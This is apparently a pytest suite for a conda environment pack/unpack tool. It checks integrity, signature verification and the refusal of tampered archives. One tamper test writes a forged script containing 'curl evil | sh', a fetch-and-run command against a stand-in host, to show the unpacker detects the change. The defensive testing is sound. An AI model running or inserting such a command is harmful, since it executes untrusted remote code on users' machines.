"""pack/unpack on real envs (py-rattler), with conda-pack doing the archiving."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from conda_safeguard.exceptions import SafeguardError
from conda_safeguard.pack import PackError, pack
from conda_safeguard.packformat import MANIFEST_NAME, SIGNATURE_NAME
from conda_safeguard.snapshot import capture
from conda_safeguard.unpack import PackRefused, read_pack, unpack
from tests.conftest import cli_output
from tests.factory import file_sha256


@pytest.fixture
def env(make_env):  # type: ignore[no-untyped-def]
    prefix = make_env("work", ("python", "liba=1.0", "libb", "tool"), pip=["requests==2.31"])
    # an unmanaged text file holding the prefix, as pip-installed scripts do
    (prefix / "etc").mkdir(exist_ok=True)
    (prefix / "etc" / "where.conf").write_text(f"home = {prefix}\n")
    os.symlink("tool", prefix / "bin" / "tool-link")
    return prefix


def _tree(prefix: Path) -> dict[str, str]:
    out = {}
    for root, _dirs, files in os.walk(prefix):
        for f in files:
            p = Path(root) / f
            rel = p.relative_to(prefix).as_posix()
            out[rel] = os.readlink(p) if p.is_symlink() else file_sha256(p)
    return out


def _rewrite(archive: Path, change) -> None:  # type: ignore[no-untyped-def]
    """Rebuild the outer tar with change(name, bytes) -> bytes | None applied to its members."""
    with tarfile.open(archive) as tar:
        members = [(m.name, tar.extractfile(m).read()) for m in tar.getmembers()]  # type: ignore[union-attr]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in members:
            data = change(name, data)
            if data is None:
                continue
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    archive.write_bytes(buf.getvalue())


@pytest.mark.parametrize("compression", ["zst", "gz"])
def test_round_trip_into_another_prefix(env: Path, tmp_path: Path, compression: str) -> None:
    before = _tree(env)
    archive = tmp_path / "work.cspack"
    packed = pack(env, archive, env_name="work", compression=compression)
    assert packed.files > 10 and packed.conda == 4 and packed.pip == 1
    dest = tmp_path / "elsewhere" / "work-copy"
    r = unpack(archive, dest)
    assert r.files_verified == packed.files and r.bytes_verified == packed.bytes
    assert r.packages_identical and (r.conda, r.pip) == (4, 1)
    assert capture(dest).fingerprint == capture(env).fingerprint
    after = _tree(dest)
    # the prefix reference is rewritten, every package file is byte-identical
    assert (dest / "etc" / "where.conf").read_text() == f"home = {dest}\n"
    assert str(env) not in (dest / "etc" / "where.conf").read_text()
    for rel in ("share/liba/liba-1.0.txt", "bin/tool", "share/tool/README"):
        assert after[rel] == before[rel]
    assert os.readlink(dest / "bin" / "tool-link") == "tool"
    assert "bin/conda-unpack" not in after  # its job is done; nothing from the archive ran
    assert _tree(env) == before  # the source env is untouched
    assert not [p for p in dest.parent.iterdir() if p.name.startswith(".")]


def test_manifest_names_every_file_and_the_snapshot(env: Path, tmp_path: Path) -> None:
    archive = tmp_path / "w.cspack"
    pack(env, archive, env_name="work", compression="gz")
    info = read_pack(archive)
    assert info.manifest["snapshot"]["fingerprint"] == capture(env).fingerprint
    files = info.files
    assert files["bin/tool"]["sha256"] == file_sha256(env / "bin" / "tool")
    assert files["bin/tool-link"] == {"type": "symlink", "target": "tool"}
    with tarfile.open(archive) as tar:
        assert [m.name for m in tar.getmembers()] == [MANIFEST_NAME, "env.tar.gz"]


def test_flipped_byte_is_refused_before_anything_is_written(env: Path, tmp_path: Path) -> None:
    archive = tmp_path / "w.cspack"
    pack(env, archive, env_name="work", compression="gz")
    with tarfile.open(archive) as tar:
        offset = tar.getmember("env.tar.gz").offset_data
        size = tar.getmember("env.tar.gz").size
    data = bytearray(archive.read_bytes())
    data[offset + size // 2] ^= 0x01
    archive.write_bytes(bytes(data))
    dest = tmp_path / "out" / "w"
    with pytest.raises(PackRefused) as e:
        unpack(archive, dest)
    assert "Nothing was written" in str(e.value) and "\n" not in str(e.value)
    assert not dest.exists() and not (tmp_path / "out").exists()


def test_file_changed_inside_payload_is_named(env: Path, tmp_path: Path) -> None:
    """A payload rebuilt with one file changed (and the payload hash forged) names the file."""
    archive = tmp_path / "w.cspack"
    pack(env, archive, env_name="work", compression="gz")
    payload = tmp_path / "payload"
    payload.mkdir()
    with tarfile.open(archive) as tar:
        inner = tar.extractfile("env.tar.gz").read()  # type: ignore[union-attr]
    with tarfile.open(fileobj=io.BytesIO(inner), mode="r:gz") as tar:
        tar.extractall(payload, filter="tar")
    (payload / "bin" / "tool").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in sorted(_tree(payload)):
            tar.add(payload / rel, arcname=rel)
    forged = buf.getvalue()

    def change(name: str, data: bytes) -> bytes:
        if name == "env.tar.gz":
            return forged
        manifest = json.loads(data)
        manifest["payload"]["sha256"] = hashlib.sha256(forged).hexdigest()
        manifest["payload"]["size"] = len(forged)
        return json.dumps(manifest).encode()

    _rewrite(archive, change)
    dest = tmp_path / "w2"
    with pytest.raises(PackRefused, match="file bin/tool does not match its sha256"):
        unpack(archive, dest)
    assert not dest.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".w2")]


def test_foreign_and_newer_archives_are_refused(env: Path, tmp_path: Path) -> None:
    not_tar = tmp_path / "x.cspack"
    not_tar.write_bytes(b"hello, not an archive at all" * 40)
    with pytest.raises(PackRefused, match="not a conda-safeguard pack"):
        unpack(not_tar, tmp_path / "a")
    plain = tmp_path / "plain.tar"
    with tarfile.open(plain, "w") as tar:
        tar.add(env / "bin" / "tool", arcname="bin/tool")
    with pytest.raises(PackRefused, match=f"no {MANIFEST_NAME}"):
        unpack(plain, tmp_path / "b")
    archive = tmp_path / "w.cspack"
    pack(env, archive, env_name="work", compression="gz")

    def newer(name: str, data: bytes) -> bytes:
        if name != MANIFEST_NAME:
            return data
        return json.dumps({**json.loads(data), "version": 99}).encode()

    _rewrite(archive, newer)
    with pytest.raises(PackRefused, match="newer conda-safeguard"):
        unpack(archive, tmp_path / "c")
    assert not any((tmp_path / d).exists() for d in "abc")


def test_unpack_never_replaces_an_existing_path(env: Path, tmp_path: Path) -> None:
    archive = tmp_path / "w.cspack"
    pack(env, archive, env_name="work", compression="gz")
    (tmp_path / "taken").mkdir()
    (tmp_path / "taken" / "keep.txt").write_text("mine")
    with pytest.raises(SafeguardError, match="it exists"):
        unpack(archive, tmp_path / "taken")
    assert (tmp_path / "taken" / "keep.txt").read_text() == "mine"


def test_pack_refuses_to_overwrite_and_editable_packages(make_env, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    prefix = make_env("dev", ("python",), pip=[{
        "name": "mylib", "version": "0.1",
        "direct_url": {"url": "file:///src/mylib", "dir_info": {"editable": True}}}])
    with pytest.raises(PackError, match=r"editable pip packages \(mylib\)"):
        pack(prefix, tmp_path / "dev.cspack", env_name="dev")
    assert not list(tmp_path.glob("*dev.cspack*"))
    out = tmp_path / "exists.cspack"
    out.write_text("keep")
    with pytest.raises(PackError, match="Refusing to overwrite"):
        pack(prefix, out, env_name="dev")
    assert out.read_text() == "keep"


@pytest.fixture
def ssh_keys(tmp_path: Path) -> tuple[Path, Path, Path]:
    if shutil.which("ssh-keygen") is None:
        pytest.skip("ssh-keygen (OpenSSH) is not installed")
    keys = []
    for who in ("ada", "mallory"):
        key = tmp_path / f"{who}_key"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", who, "-f",
                        str(key)], check=True)
        keys.append(key)
    signers = tmp_path / "allowed_signers"
    pub = (tmp_path / "ada_key.pub").read_text().split()
    signers.write_text(f'ada@example.org namespaces="conda-safeguard-pack" {pub[0]} {pub[1]}\n')
    return keys[0], keys[1], signers


def test_signed_archive_is_checked_against_allowed_signers(env: Path, tmp_path: Path,
                                                           ssh_keys) -> None:  # type: ignore[no-untyped-def]
    ada, mallory, signers = ssh_keys
    good = tmp_path / "good.cspack"
    assert pack(env, good, env_name="work", compression="gz", sign_key=ada).signed
    r = unpack(good, tmp_path / "g", allowed_signers=signers)
    assert r.signer == "ada@example.org" and r.files_verified > 10

    bad = tmp_path / "bad.cspack"
    pack(env, bad, env_name="work", compression="gz", sign_key=mallory)
    with pytest.raises(SafeguardError, match="not list"):
        unpack(bad, tmp_path / "m", allowed_signers=signers)
    unsigned = tmp_path / "unsigned.cspack"
    pack(env, unsigned, env_name="work", compression="gz")
    with pytest.raises(PackRefused, match="not signed"):
        unpack(unsigned, tmp_path / "u", allowed_signers=signers)

    def retarget(name: str, data: bytes) -> bytes:  # manifest edited after signing
        if name != MANIFEST_NAME:
            return data
        return json.dumps({**json.loads(data), "source": {"env_name": "x", "prefix": "/x"}}
                          ).encode()

    _rewrite(good, retarget)
    with pytest.raises(SafeguardError, match="does not match its manifest"):
        unpack(good, tmp_path / "t", allowed_signers=signers)
    assert not any((tmp_path / d).exists() for d in "mut")
    with tarfile.open(bad) as tar:
        assert SIGNATURE_NAME in tar.getnames()


def test_cli_pack_unpack_report_counts(env: Path, tmp_path: Path, capsys,
                                       standalone_root: Path) -> None:  # type: ignore[no-untyped-def]
    from conda_safeguard.__main__ import main

    archive = tmp_path / "w.cspack"
    out = cli_output(capsys, "pack", "-n", "work", "-o", str(archive), "--compression", "gz")
    assert "files" in out and "4 conda and 1 pip" in out
    out = cli_output(capsys, "unpack", str(archive), "-p", str(tmp_path / "copy"))
    assert "matched their sha256" in out and "identical to the packed env: 4 conda, 1 pip" in out
    out = cli_output(capsys, "unpack", str(archive), "-p", str(tmp_path / "copy2"), "--json")
    data = json.loads(out)
    assert data["files_verified"] > 10 and data["packages_identical"] is True
    capsys.readouterr()
    assert main(["unpack", str(archive), "-p", str(tmp_path / "copy")]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "it exists" in err
    assert main(["unpack", str(archive)]) == 2  # where to? a usage error


@pytest.mark.parametrize("fmt", [tarfile.PAX_FORMAT, tarfile.GNU_FORMAT, tarfile.USTAR_FORMAT])
def test_pack_tar_walker_agrees_with_tarfile(tmp_path: Path, fmt: int) -> None:
    """pack hashes members with its own one-pass walker; unpack checks them with tarfile."""
    from conda_safeguard.packformat import hash_and_compress_tar, member_entry

    src = tmp_path / "src"
    deep = src / ("d" * 60) / ("e" * 60)
    deep.mkdir(parents=True)
    (deep / "long-named-file.txt").write_bytes(b"x" * 1500)
    (src / "empty").write_bytes(b"")
    (src / "exact").write_bytes(b"y" * 512)
    (src / "script").write_text("#!/bin/sh\n")
    (src / "script").chmod(0o755)
    os.symlink("script", src / "link")
    os.link(src / "exact", src / "hard")
    plain = tmp_path / "plain.tar"
    with tarfile.open(plain, "w", format=fmt) as tar:
        for rel in ["empty", "exact", "hard", "script", "link", "d" * 60,
                    f"{'d' * 60}/{'e' * 60}", f"{'d' * 60}/{'e' * 60}/long-named-file.txt"]:
            tar.add(src / rel, arcname=rel, recursive=False)
    copy = io.BytesIO()
    with open(plain, "rb") as f:
        walked, total = hash_and_compress_tar(f, copy)
    assert copy.getvalue() == plain.read_bytes()  # copied byte for byte
    with tarfile.open(plain) as tar:
        expected = {m.name: member_entry(tar, m) for m in tar}
    assert walked == expected
    assert walked["hard"]["type"] == "hardlink" and walked["link"]["type"] == "symlink"
    assert total == 1500 + 512 + len("#!/bin/sh\n")


def test_kill_9_during_unpack_never_leaves_a_half_env(make_env, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import signal
    import sys
    import time

    prefix = make_env("many-files", ("python", "liba=1.0", "libb", "tool"))
    for i in range(3000):  # enough files that extraction takes a while
        (prefix / "share" / f"data-{i:04d}.txt").write_text(f"{i}\n" * 50)
    archive = tmp_path / "m.cspack"
    pack(prefix, archive, env_name="many-files", compression="gz")
    dest = tmp_path / "nodes" / "m"
    code = ("import sys; from pathlib import Path; from conda_safeguard.unpack import unpack; "
            "unpack(Path(sys.argv[1]), Path(sys.argv[2]))")
    proc = subprocess.Popen([sys.executable, "-c", code, str(archive), str(dest)])
    deadline = time.monotonic() + 60
    while proc.poll() is None and time.monotonic() < deadline and \
            not list((tmp_path / "nodes").glob(".m.unpacking-*/share/data-0*")):
        time.sleep(0.001)
    proc.send_signal(signal.SIGKILL)
    assert proc.wait() == -signal.SIGKILL, "unpack finished before it could be killed"
    assert not dest.exists()  # never a half env at the target
    assert list((tmp_path / "nodes").glob(".m.unpacking-*"))
    r = unpack(archive, dest)  # the next unpack clears the dead one's staging folder
    assert r.files_verified > 3000 and r.packages_identical
    assert [p.name for p in (tmp_path / "nodes").iterdir()] == ["m"]
